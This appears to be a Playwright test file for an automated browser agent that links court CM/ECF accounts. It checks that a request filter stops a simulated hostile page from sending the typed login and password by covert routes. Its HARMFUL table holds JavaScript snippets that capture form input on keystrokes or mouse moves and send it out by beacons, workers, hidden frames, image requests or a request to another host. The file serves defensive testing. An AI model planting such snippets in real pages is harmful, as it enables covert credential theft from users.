"""Forms that a script sends, and screens that it draws: what leaves is what the form would send."""

from collections.abc import Iterator, Mapping
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserType, Locator, Page, expect
from playwright.sync_api import Error as PlaywrightError

from e2e.courts.everyday.court import everyday_court
from e2e.courts.hostile import HostileCourt, Trick, hostile_court
from e2e.safety.kinds import kinds_first
from e2e.safety.linking_walk import SIGNED_ON, walk_at, walk_signed_on
from e2e.waiting import wait_until
from pages.linking import LinkForm
from walk.safety.request_filter import RequestFilter
from walk.safety.submissions.first_submit import first_submission
from walk.safety.submissions.submission import NOT_PERMITTED
from walk.settings.sites import Addresses

# Only Chromium types what may link away from the embedded court.
pytestmark = [pytest.mark.one_engine, pytest.mark.browser, pytest.mark.only_browser("chromium")]

VERIFY = "await draw(await post('/verify', new URLSearchParams(new FormData(form))));"
LINK = "`/link?how=script&${typed}`"

HONEST: Mapping[str, str] = {
    "what fetch answers": f"onSubmit(async () => {{ {VERIFY} }})",
    "what an old request answers": "onSubmit((typed) => new Promise((done) => {"
    " const old = new XMLHttpRequest(); old.open('POST', '/verify'); old.onload = () => {"
    " document.body.innerHTML = old.responseText; done(); }; old.send(typed); }))",
    "what a request that waits answers": "onSubmit(async (typed) => {"
    " const old = new XMLHttpRequest(); old.open('POST', '/verify', false); old.send(typed);"
    " document.body.innerHTML = old.responseText; })",
    "the parts of a form": "onSubmit(async () => draw(await post('/verify', new FormData(form))))",
    "a page that is fetched then": "onSubmit(async (typed) => { await post('/verify', typed);"
    " history.pushState({}, '', '/verification'); await draw(await fetch('/verified')); })",
    "a page that the script goes to": "onSubmit(async (typed) => { await post('/verify', typed);"
    " location.assign('/verified'); })",
    "after a click on a button without a form": "form.replaceWith(...form.childNodes);"
    " const [login, key] = document.querySelectorAll('input');"
    " const button = document.querySelector('button'); button.type = 'button';"
    " button.onclick = async () => draw(await post('/verify',"
    " new URLSearchParams({login: login.value, key: key.value})));",
}
"""How an honest court comes to its verification page without sending its form."""
KINDS_OF_HONEST = (*("after a click on a button without a form", "a page that the script goes to"),)

HARMFUL: Mapping[str, str] = {
    # At another moment
    "over and over": "setInterval(() => typed().includes('=C') &&"
    " post('/link', new URLSearchParams(typed())), 40)",
    "at a key": "for (const event of ['keydown', 'keyup', 'input', 'change'])"
    " form.addEventListener(event, () => post('/link', new URLSearchParams(typed())))",
    "under the mouse": "form.addEventListener('mousemove', () => post('/link',"
    " new URLSearchParams(typed())))",
    "at the focus": "form.addEventListener('focusin', () => post('/link',"
    " new URLSearchParams(typed())))",
    "when the mouse goes down": "form.addEventListener('mousedown', () => typed().includes('key=C')"
    " && (window.sent = post('/link?how=down', new URLSearchParams(typed()))))",
    # More than once
    "twice": "onSubmit(async (typed) => { const first = post('/verify', typed);"
    " await Promise.allSettled([first, post('/link', typed)]); })",
    "twice, one after the other": f"onSubmit(async (typed) => {{ {VERIFY}"
    " await post('/link', typed); })",
    "later": f"onSubmit(async (typed) => {{ {VERIFY} setTimeout(() => post('/link', typed), 60);"
    " await new Promise((done) => setTimeout(done, 90)); })",
    "when the page is left": "onSubmit(async (typed) => { addEventListener('pagehide', () =>"
    " fetch('/link', {method: 'POST', body: typed, keepalive: true}));"
    " await post('/verify', typed); location.assign('/verified'); })",
    # Something else
    "another field": "onSubmit(async (typed) => { typed.set('link', 'now');"
    " await post('/link', typed); })",
    "a field of JSON": "onSubmit(async (typed) => post('/link', JSON.stringify({"
    "...Object.fromEntries(typed), now: true}), {headers: {'Content-Type': 'application/json'}}))",
    "other names": "onSubmit(async (typed) => { typed.set('login', 'janeroe01');"
    " typed.set('token', 'other'); await post('/link', typed); })",
    "more in the address": f"onSubmit((typed) => post({LINK}, typed))",
    # Another way
    "by GET": f"onSubmit((typed) => fetch({LINK}))",
    "by GET after it": f"onSubmit(async (typed) => {{ {VERIFY} await fetch({LINK}); }})",
    "by GET with it in the path": "onSubmit(async (typed) => { await post('/verify', typed);"
    " await draw(await fetch(`/link/${typed.get('login')}/${typed.get('key')}`)); })",
    "by GET beside the page": f"onSubmit(async () => {{ {VERIFY} await fetch('/link-now'); }})",
    "by another method": "onSubmit((typed) => fetch('/link', {method: 'PUT', body: typed}))",
    "by an old request that waits": "onSubmit(async (typed) => { await post('/verify', typed);"
    " const old = new XMLHttpRequest(); old.open('POST', '/link', false); old.send(typed); })",
    "by a beacon": "onSubmit(async (typed) => { navigator.sendBeacon('/link', typed); })",
    "by a worker": "onSubmit(async (typed) => { const code = `fetch('${location.origin}/link',"
    " {method: 'POST', body: new URLSearchParams('${typed}')})`;"
    " new Worker(URL.createObjectURL(new Blob([code])));"
    " await new Promise((done) => setTimeout(done, 90)); })",
    "by a frame": "const frame = document.createElement('iframe'); form.after(frame);"
    " onSubmit((typed) => frame.contentWindow.fetch('/link', {method: 'POST', body: typed}))",
    "by a form out of sight": "onSubmit(async (typed) => { const other = form.cloneNode(true);"
    " other.hidden = true; document.body.append(other); Object.assign(other, {method: 'post',"
    " action: '/link?how=hidden'}); other.submit(); })",
    "by a form of a frame out of sight": "const frame = document.createElement('iframe');"
    " frame.name = 'it'; frame.hidden = true; form.after(frame); onSubmit(async () => {"
    " Object.assign(form, {method: 'post', action: '/link?how=frame', target: 'it'});"
    " form.submit(); })",
    "by a new tab": f"onSubmit(async (typed) => {{ window.open({LINK}); }})",
    "by a picture": f"onSubmit(async (typed) => {{ const one = new Image(); one.src = {LINK};"
    " await new Promise((done) => { one.onerror = one.onload = done; }); })",
    "at another host": "onSubmit((typed) => fetch('http://other.hostile.localhost:' +"
    " location.port + '/link', {method: 'POST', body: typed, mode: 'no-cors'}))",
}
"""How a court could link otherwise than by its form, which it sends by a script, or also links."""
KINDS_OF_HARMFUL = (
    # At another moment
    "when the mouse goes down",
    # More than once
    *("later", "when the page is left"),
    # Something else
    "another field",
    # Another way
    *("by GET after it", "by a beacon", "by a worker"),
    *("by a form of a frame out of sight", "at another host"),
)


@contextmanager
def guarded(
    browser_type: BrowserType, launching: Mapping[str, Any], court: HostileCourt
) -> Iterator[tuple[Page, RequestFilter]]:
    """Open a browser behind the filters, as a walk with a permit has it."""
    with browser_type.launch(**{**launching, "args": []}) as browser:
        context = browser.new_context(service_workers="block")
        context.set_default_timeout(3000)
        request_filter = RequestFilter(
            Addresses(court.website, court.sign_on, court.cmecf), may_link=True
        )
        request_filter.guard(context)
        yield context.new_page(), request_filter


@pytest.fixture(scope="module")
def one_court() -> Iterator[HostileCourt]:
    """A court that plays one trick after another."""
    with hostile_court() as court:
        yield court


@pytest.fixture
def behind_locks(
    browser_type: BrowserType, browser_type_launch_args: Mapping[str, Any], one_court: HostileCourt
) -> Iterator[tuple[Page, RequestFilter, HostileCourt]]:
    """A browser behind the filters: what a page of one test still asks for reaches no other."""
    with guarded(browser_type, browser_type_launch_args, one_court) as (page, request_filter):
        yield page, request_filter, one_court


def fill_in(page: Page, court: HostileCourt) -> LinkForm:
    """Come to the link form, and fill it in."""
    page.goto(f"{court.cmecf}form")
    screen = LinkForm(page)
    return screen.enter("CM/ECF login", court.account.login).enter(
        "CM/ECF password", court.account.cmecf_password
    )


ENDS = """() => {
    window.hasEnded = false;
    Promise.resolve(window.sent).catch(() => 0).finally(() => { window.hasEnded = true; });
}"""


def has_ended(page: Page, request_filter: RequestFilter) -> bool:
    """Refuse what is held, and say whether the script has ended, or its page is gone."""
    request_filter.stay(is_linking=True)
    return bool(page.evaluate("window.hasEnded !== false"))


def is_drawn(shown: Locator, request_filter: RequestFilter) -> bool:
    """Let pass what is held to draw the page, and say whether it is drawn."""
    request_filter.let_draw()
    return shown.is_visible()


def press(screen: LinkForm, request_filter: RequestFilter, court: HostileCourt) -> None:
    """Press Submit as a walk does, and let its script do what it does."""
    typed = (court.account.login, court.account.cmecf_password)
    request_filter.submit(None)
    only = first_submission(screen, "Submit", typed)
    screen.telling_before_release(lambda: request_filter.submit(only)).press("Submit")


@pytest.mark.sample(len(KINDS_OF_HARMFUL))
@pytest.mark.parametrize("how", kinds_first(HARMFUL, KINDS_OF_HARMFUL))
def test_a_form_that_a_script_sends_links_nothing_by_the_way(
    behind_locks: tuple[Page, RequestFilter, HostileCourt], how: str
) -> None:
    page, request_filter, court = behind_locks
    court.plays(Trick(script=HARMFUL[how]))
    request_filter.look()
    screen = fill_in(page, court)
    # What it tried while it was filled in is refused as on any page.
    assert court.links == []
    request_filter.stay(is_linking=True)
    screen.enter("CM/ECF login", court.account.login)
    press(screen, request_filter, court)
    # It may wait for what is held, so that is refused until the script has ended.
    with suppress(PlaywrightError):
        page.evaluate(ENDS)
        wait_until(page, lambda: has_ended(page, request_filter))

    assert court.links == []


@pytest.mark.nightly("test_a_form_that_a_script_sends_links_nothing_by_the_way")
@pytest.mark.parametrize("how", HARMFUL)
def test_without_locks_each_of_these_forms_links(unlocked: Page, how: str) -> None:
    with hostile_court(Trick(script=HARMFUL[how])) as court:
        screen = fill_in(unlocked, court)
        screen.press("Submit")
        with suppress(PlaywrightError):
            unlocked.evaluate("window.sent")
        wait_until(unlocked, lambda: bool(court.links))

    assert court.links


@pytest.mark.sample(len(KINDS_OF_HONEST))
@pytest.mark.parametrize("how", kinds_first(HONEST, KINDS_OF_HONEST))
def test_a_form_that_a_script_sends_leads_to_the_verification_page(
    behind_locks: tuple[Page, RequestFilter, HostileCourt], how: str
) -> None:
    page, request_filter, court = behind_locks
    court.plays(Trick(script=HONEST[how]))
    request_filter.look()
    screen = fill_in(page, court)
    request_filter.stay(is_linking=True)
    press(screen, request_filter, court)
    shown = page.get_by_text("Do you want to link these accounts?")

    wait_until(page, lambda: is_drawn(shown, request_filter))
    expect(shown).to_be_visible()
    assert [asked for asked in court.asked if asked.startswith("POST")] == [
        f"POST {court.cmecf}verify"
    ]
    assert court.links == []


@pytest.mark.sample(1)
@pytest.mark.parametrize("how", kinds_first(HONEST, KINDS_OF_HONEST))
def test_without_a_permit_no_script_sends_the_form(
    behind_locks: tuple[Page, RequestFilter, HostileCourt],
    monkeypatch: pytest.MonkeyPatch,
    how: str,
) -> None:
    page, request_filter, court = behind_locks
    monkeypatch.setattr(request_filter, "_may_link", False)
    court.plays(Trick(script=HONEST[how]))
    request_filter.look()
    screen = fill_in(page, court)
    request_filter.stay(is_linking=True)

    press(screen, request_filter, court)
    wait_until(page, lambda: request_filter.refused_script() is not None)

    assert not [asked for asked in court.asked if asked.startswith("POST")]
    assert request_filter.refused_script() == f"POST {court.cmecf}verify: {NOT_PERMITTED}"


# Whole walks at a court that draws all of its pages by a script


@pytest.mark.walk
def test_a_court_that_draws_its_pages_by_scripts_is_walked_to_the_confirmation(
    tmp_path: Path,
) -> None:
    with everyday_court("drawn") as court:
        ran = walk_signed_on(court, tmp_path, "--permit-link", court.permit, "--until", "13")

    assert (ran.status, ran.verdicts[SIGNED_ON - 1 : 13]) == (0, ["as_documented"] * 9)
    assert court.links == [f"{court.cmecf}link"]
    paths = [step["url"].removeprefix(court.cmecf) for step in ran.result["steps"][6:13]]
    assert paths == [
        *("utilities", "utilities", "form", "form"),
        *("verification", "verification", "linked"),
    ]


@pytest.mark.walk
@pytest.mark.sample(1)
@pytest.mark.parametrize(
    "form",
    [
        "<form onsubmit=\"fetch('/link', {method: 'POST', body: new FormData(this)});"
        ' return false">',
        "<div onclick=\"fetch('/link?token=grimm', {method: 'POST'})\">",
    ],
)
def test_a_permanent_submit_that_only_a_script_would_send_is_not_pressed_and_the_reason_says_so(
    tmp_path: Path, form: str
) -> None:
    with hostile_court(Trick(verification_form=form)) as court:
        ran = walk_at(court, tmp_path, "--permit-link", court.permit)

    (blocked,) = [step for step in ran.result["steps"] if step["cause"]]
    assert (ran.status, blocked["number"], blocked["cause"]) == (3, 11, "policy")
    assert "A script would send it" in blocked["reason"]
    assert court.links == []


@pytest.mark.walk
@pytest.mark.nightly("test_what_a_script_asked_in_vain_is_told_until_another_page_has_come")
def test_a_script_that_sends_something_else_is_told_as_what_this_walk_refused(
    tmp_path: Path,
) -> None:
    with hostile_court(Trick(script=HARMFUL["other names"])) as court:
        ran = walk_at(court, tmp_path, "--permit-link", court.permit)

    (blocked,) = [step for step in ran.result["steps"] if step["cause"]]
    assert (ran.status, blocked["number"], blocked["cause"]) == (3, 11, "policy")
    assert f"(POST {court.cmecf}link: it sends something else than what" in blocked["reason"]
    assert court.links == []
